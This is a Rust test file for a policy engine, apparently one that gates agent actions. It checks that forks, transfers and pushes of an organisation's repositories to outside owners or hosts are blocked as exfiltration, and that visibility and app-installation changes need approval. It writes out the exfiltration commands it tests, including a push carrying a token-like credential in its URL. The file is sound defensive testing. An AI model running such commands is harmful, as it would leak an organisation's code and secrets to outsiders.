//! Repository administration that moves an organisation's code or widens
//! who reads it, however it is asked for (gh, glab, curl, the HTTP
//! gateway): a fork or transfer to an owner outside the organisation is
//! its code pushed there, and blocks as such a `git push` does; within the
//! organisation it copies nothing out. `internal` visibility and a GitHub
//! App installation given a repository are grants of access.

#![allow(clippy::panic, clippy::unwrap_used)]

use crate::common;

use common::{assert_routes, engine, http_post, shell};
use serde_json::json;
use writ_core::{Route, Runtime};

const DEPLOYMENT: &str = r#"{
    "organization": "acme",
    "workspace": "/home/dana/ws",
    "home": "/home/dana",
    "org_domains": ["acme.io"],
    "org_repos": ["github.com/acme/*", "github.com/acme-archive/*", "gitlab.com/acme-ops/*"],
    "git_remotes": {"origin": "https://github.com/acme/ws.git"},
    "protected_branches": ["main"]
}"#;

/// A request through the HTTP egress gateway.
fn http(method: &str, url: &str, body: &str) -> (Runtime, serde_json::Value) {
    (
        Runtime::Http,
        json!({"method": method, "url": url, "headers": {"content-type": "application/json"}, "body": body}),
    )
}

#[test]
fn org_code_forked_or_transferred_outside_blocks() {
    let engine = engine(DEPLOYMENT);
    assert_routes(
        &engine,
        "an org repository forked to an outside owner",
        &[
            shell("gh repo fork acme/ledger --org ravi-labs --clone=false"),
            shell("gh repo fork acme/ledger"),
            shell("gh repo fork"),
            shell("gh api -X POST repos/acme/ledger/forks"),
            shell("glab repo fork acme-ops/billing"),
            shell("glab api -X POST projects/acme-ops%2Fbilling/fork -f namespace_path=ravi"),
            http_post(
                "https://api.github.com/repos/acme/ledger/forks",
                json!({}),
                r#"{"organization": "ravi-labs"}"#,
            ),
        ],
        Route::Block,
        &["EXFIL_CONFIDENTIAL"],
    );
    // A transfer also hands the repository to its new owner.
    assert_routes(
        &engine,
        "an org repository transferred to an outside owner",
        &[
            shell("gh api -X POST repos/acme/pdf/transfer -f new_owner=inkwell-oss"),
            shell(
                r#"curl -X POST https://api.github.com/repos/acme/pdf/transfer -d '{"new_owner":"inkwell-oss"}'"#,
            ),
            http_post(
                "https://api.github.com/repos/acme/pdf/transfer",
                json!({}),
                r#"{"new_owner": "inkwell-oss"}"#,
            ),
            shell("glab repo transfer acme-ops/billing --target-namespace someone"),
            http(
                "PUT",
                "https://gitlab.com/api/v4/projects/acme-ops%2Fbilling/transfer",
                r#"{"namespace": "someone"}"#,
            ),
        ],
        Route::Block,
        &["EXFIL_CONFIDENTIAL", "PERMISSION_CHANGE"],
    );
}

#[test]
fn moves_within_the_organisation_copy_nothing_out() {
    let engine = engine(DEPLOYMENT);
    // The copy lands in a new repository: no protected branch is pushed.
    assert_routes(
        &engine,
        "an org repository forked into the organisation",
        &[
            shell("gh repo fork acme/ledger --org acme-archive"),
            shell("gh api -X POST repos/acme/ledger/forks -f organization=acme"),
            shell(
                "glab api -X POST projects/acme-ops%2Fbilling/fork -f namespace_path=acme-ops/forks",
            ),
        ],
        Route::Allow,
        &[],
    );
    assert_routes(
        &engine,
        "an org repository transferred within the organisation",
        &[
            shell("gh api -X POST repos/acme/pdf/transfer -f new_owner=acme-archive"),
            shell("glab repo transfer acme-ops/billing --target-namespace acme-ops/archive"),
        ],
        Route::RequireApproval,
        &["PERMISSION_CHANGE"],
    );
    // Someone else's public code forked to one's account is an external
    // write of no org data.
    assert_routes(
        &engine,
        "an outside repository forked",
        &[shell("gh repo fork cli/cli")],
        Route::RequireApproval,
        &["EXTERNAL_WRITE"],
    );
}

#[test]
fn internal_visibility_and_app_installations_change_access() {
    let engine = engine(DEPLOYMENT);
    assert_routes(
        &engine,
        "a repository opened to the enterprise or the instance",
        &[
            shell(
                "gh repo edit acme/ledger --visibility internal --accept-visibility-change-consequences",
            ),
            shell("gh api -X PATCH repos/acme/ledger -f visibility=internal"),
            http(
                "PATCH",
                "https://api.github.com/repos/acme/ledger",
                r#"{"visibility": "internal"}"#,
            ),
            shell("glab repo edit acme-ops/billing --visibility internal"),
            http(
                "PUT",
                "https://gitlab.com/api/v4/projects/acme-ops%2Fbilling",
                r#"{"visibility": "internal"}"#,
            ),
            shell("gh api -X PUT user/installations/51234567/repositories/778899001"),
            http(
                "PUT",
                "https://api.github.com/user/installations/51234567/repositories/778899001",
                "",
            ),
            http(
                "DELETE",
                "https://api.github.com/user/installations/51234567/repositories/778899001",
                "",
            ),
        ],
        Route::RequireApproval,
        &["PERMISSION_CHANGE"],
    );
    assert_routes(
        &engine,
        "a repository made private",
        &[shell("gh repo edit acme/ledger --visibility private")],
        Route::Allow,
        &[],
    );
}

#[test]
fn an_account_name_in_a_remote_is_no_credential_sent_beside_the_push() {
    let engine = engine(DEPLOYMENT);
    // `git@` names the account: the push is the code's exfiltration alone.
    assert_routes(
        &engine,
        "org code pushed to an outside host over ssh",
        &[
            shell("git push ssh://git@git.sr.ht/~dana/ws main"),
            shell("git push git@gitlab.com:dana-home/ws.git main"),
        ],
        Route::Block,
        &["EXFIL_CONFIDENTIAL"],
    );
    // A token in the user information is sent too.
    assert_routes(
        &engine,
        "org code pushed with a token in the URL",
        &[shell(
            "git push https://dana:ghp_7kQ2mVx9RtLw3Nc8ZpYb4HsJd1FgAe6UoK0i@github.com/dana-home/ws.git main",
        )],
        Route::Block,
        &["EXFIL_CONFIDENTIAL", "EXFIL_SECRET"],
    );
}
